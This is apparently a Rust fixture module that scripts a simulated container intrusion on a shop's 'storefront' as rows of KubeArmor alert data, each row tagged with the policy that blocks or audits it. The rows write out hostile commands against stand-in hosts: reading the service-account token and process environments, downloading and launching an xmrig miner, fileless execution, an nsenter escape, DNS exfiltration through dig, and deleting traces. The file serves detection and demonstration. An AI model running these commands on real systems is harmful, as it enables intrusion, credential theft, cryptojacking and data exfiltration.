//! The attack, row by row in the order in which it happens: what each phase leaves in KubeArmor's
//! alerts. It begins in the storefront; `spread` has what is tried from there.

use super::deed::{Deed, Finding, LOG};

/// A policy's finding about a process in the storefront, blocked, for a row to start from.
pub(super) const BLOCKED: Finding = Finding {
    kind: "MatchedPolicy",
    policy: "",
    severity: "5",
    tags: "",
    message: "",
    action: "Block",
    enforcer: "BPFLSM",
};

/// The same, only watched.
pub(super) const AUDITED: Finding =
    Finding { action: "Audit", enforcer: "eBPF Monitor", ..BLOCKED };

/// A process of the intruder's shell in the storefront.
pub(super) const INTRUDER: Deed = Deed {
    on: "storefront",
    operation: "Process",
    parent: "/bin/bash",
    data: "syscall=SYS_EXECVE",
    result: "Permission denied",
    tty: "pts0",
    uid: 33,
    ..LOG
};

/// The break-in, and what the intruder does in the storefront.
pub(super) const DEEDS: &[Deed] = &[
    // The web server's first command that is none of its own.
    Deed {
        parent: "/usr/sbin/apache2",
        process: "/bin/bash",
        source: "/usr/sbin/apache2 -DFOREGROUND",
        resource: "/bin/bash -c id; uname -a",
        program: "bash",
        tty: "",
        result: "Passed",
        finding: Some(Finding {
            policy: "shop-no-shell-from-web-server",
            severity: "7",
            tags: "MITRE,MITRE_T1059_command_and_scripting_interpreter,MITRE_T1190_exploit_public_facing_application",
            message: "A web server started a shell",
            action: "Audit (Block)",
            ..AUDITED
        }),
        ..INTRUDER
    },
    Deed {
        operation: "File",
        process: "/bin/cat",
        source: "/bin/cat /etc/passwd",
        resource: "/etc/passwd",
        data: "syscall=SYS_OPENAT fd=-100 flags=O_RDONLY",
        program: "cat",
        result: "Passed",
        finding: Some(Finding {
            policy: "shop-watch-account-files",
            severity: "4",
            tags: "MITRE,MITRE_T1087_account_discovery",
            message: "Accounts were read",
            ..AUDITED
        }),
        ..INTRUDER
    },
    // The tools are missing, and stay so.
    Deed {
        process: "/usr/bin/apt",
        source: "/bin/bash",
        resource: "/usr/bin/apt install -y nmap netcat-openbsd",
        program: "bash",
        uid: 0,
        finding: Some(Finding {
            policy: "harden-storefront-pkg-mngr-exec",
            tags: "NIST,NIST_800-53_CM-7(4),SI-4,process,NIST_800-53_SI-4",
            message: "Alert! Execution of package management process inside container is denied",
            enforcer: "AppArmor",
            ..BLOCKED
        }),
        times: 3,
        ..INTRUDER
    },
    // The way into the cluster's own API.
    Deed {
        operation: "File",
        process: "/bin/cat",
        source: "/bin/cat /run/secrets/kubernetes.io/serviceaccount/token",
        resource: "/run/secrets/kubernetes.io/serviceaccount/token",
        data: "lsm=FILE_OPEN",
        program: "cat",
        twin: Some("syscall=SYS_OPENAT fd=-100 flags=O_RDONLY"),
        finding: Some(Finding {
            policy: "shop-block-service-account-token",
            severity: "8",
            tags: "MITRE,MITRE_T1528_steal_application_access_token,MITRE_T1552.007_container_api",
            message: "Reading of the service account's token was blocked",
            ..BLOCKED
        }),
        times: 2,
        ..INTRUDER
    },
    Deed {
        operation: "Network",
        process: "/usr/bin/curl",
        source: "/usr/bin/curl -fsSLo /tmp/.x https://pool.miner.example/x",
        resource: "domain=AF_INET type=SOCK_STREAM|SOCK_CLOEXEC protocol=TCP",
        data: "syscall=SYS_SOCKET",
        program: "curl",
        result: "Passed",
        finding: Some(Finding {
            policy: "shop-watch-downloads",
            severity: "6",
            tags: "MITRE,MITRE_T1105_ingress_tool_transfer",
            message: "A download tool opened a connection",
            ..AUDITED
        }),
        ..INTRUDER
    },
    // The miner, in each of the ways it tries to start.
    Deed {
        process: "/tmp/.x/xmrig",
        source: "/bin/bash",
        resource: "/tmp/.x/xmrig -o stratum+tcp://pool.miner.example:3333 -u {hex}",
        data: "lsm=SECURITY_BPRM_CHECK",
        program: "bash",
        twin: Some("syscall=SYS_EXECVE"),
        finding: Some(Finding {
            policy: "shop-block-crypto-miners",
            severity: "10",
            tags: "MITRE,MITRE_T1496_resource_hijacking",
            message: "A crypto miner was kept from starting",
            ..BLOCKED
        }),
        times: 3,
        ..INTRUDER
    },
    Deed {
        parent: "/usr/bin/python3",
        process: "/proc/self/fd/3",
        source: "/proc/self/fd/3",
        resource: "memfd:",
        data: "",
        program: "python3",
        finding: Some(Finding {
            policy: "ksp-preset-block-fileless",
            severity: "8",
            tags: "MITRE,MITRE_T1620_reflective_code_loading",
            message: "Fileless execution is blocked",
            enforcer: "PRESET-FilelessExecutionPreset",
            ..BLOCKED
        }),
        ..INTRUDER
    },
    Deed {
        parent: "/usr/bin/python3",
        process: "/usr/bin/python3",
        source: "/usr/bin/python3 /tmp/.x/load.py",
        resource: "anon_map",
        data: "PROT_READ,PROT_WRITE,PROT_EXEC,MAP_PRIVATE,MAP_ANONYMOUS",
        program: "python3",
        finding: Some(Finding {
            policy: "ksp-preset-anon-map-exec",
            severity: "7",
            message: "Execution from anonymous memory is blocked",
            enforcer: "PRESET-AnonMapExecutionPreset",
            ..BLOCKED
        }),
        ..INTRUDER
    },
    Deed {
        process: "/usr/bin/nsenter",
        source: "/usr/bin/nsenter -t 1 -m -u -i -n",
        resource: "/usr/bin/nsenter",
        program: "nsenter",
        result: "Passed",
        finding: Some(Finding {
            policy: "ksp-preset-audit-exec",
            severity: "6",
            message: "A process was started from outside the container's image",
            action: "Audit",
            enforcer: "PRESET-ExecPreset",
            ..BLOCKED
        }),
        ..INTRUDER
    },
    Deed {
        operation: "File",
        process: "/bin/cat",
        source: "/bin/cat /proc/1/environ",
        resource: "/proc/1/environ",
        data: "",
        program: "cat",
        finding: Some(Finding {
            policy: "ksp-preset-protect-env",
            severity: "6",
            tags: "MITRE,MITRE_T1552_unsecured_credentials",
            message: "Reading another process's environment is blocked",
            enforcer: "PRESET-ProtectEnvPreset",
            ..BLOCKED
        }),
        ..INTRUDER
    },
    Deed {
        operation: "File",
        process: "/bin/ls",
        source: "/bin/ls /proc/{n}/fd",
        resource: "/proc/{n}/fd",
        data: "",
        program: "ls",
        finding: Some(Finding {
            policy: "ksp-preset-protect-proc",
            severity: "5",
            message: "Looking into another process is blocked",
            enforcer: "PRESET-ProtectProcPreset",
            ..BLOCKED
        }),
        ..INTRUDER
    },
    // What was found is carried out, a name query at a time, until the throttle sets in.
    Deed {
        operation: "Network",
        process: "/usr/bin/dig",
        source: "/usr/bin/dig +short {hex}.x.exfil.example",
        resource: "x.exfil.example",
        data: "lsm=SOCKET_SENDMSG domain={hex}.x.exfil.example",
        program: "dig",
        finding: Some(Finding {
            policy: "shop-block-dns-exfiltration",
            severity: "9",
            tags: "MITRE,MITRE_T1048_exfiltration_over_alternative_protocol,MITRE_T1071.004_dns",
            message: "A name outside the shop's own was asked for",
            ..BLOCKED
        }),
        times: 6,
        ..INTRUDER
    },
    Deed {
        operation: "AlertThreshold",
        parent: "",
        data: "",
        tty: "",
        uid: 0,
        result: "Passed",
        finding: Some(Finding { kind: "SystemEvent", severity: "", action: "", ..BLOCKED }),
        ..INTRUDER
    },
    Deed {
        operation: "AlertThreshold",
        process: "/usr/bin/dig",
        source: "/usr/bin/dig +short {hex}.x.exfil.example",
        resource: "sa_family=AF_INET sin_port=53 sin_addr=10.0.0.10",
        data: "syscall=SYS_CONNECT fd=3",
        program: "dig",
        result: "Passed",
        finding: Some(Finding {
            kind: "SystemEvent",
            policy: "shop-watch-name-queries",
            severity: "3",
            message: "A name was asked for",
            ..AUDITED
        }),
        ..INTRUDER
    },
    // The traces are to go.
    Deed {
        operation: "File",
        process: "/bin/rm",
        source: "/bin/rm /sbin/raw",
        resource: "/sbin/raw",
        data: "syscall=SYS_UNLINKAT flags=",
        program: "rm",
        finding: Some(Finding {
            policy: "harden-storefront-file-integrity-monitoring",
            severity: "1",
            tags: "NIST,NIST_800-53_AU-2,NIST_800-53_SI-4,MITRE,MITRE_T1036_masquerading,MITRE_T1565_data_manipulation",
            message: "Detected and prevented compromise to File integrity",
            enforcer: "AppArmor",
            ..BLOCKED
        }),
        times: 3,
        ..INTRUDER
    },
];
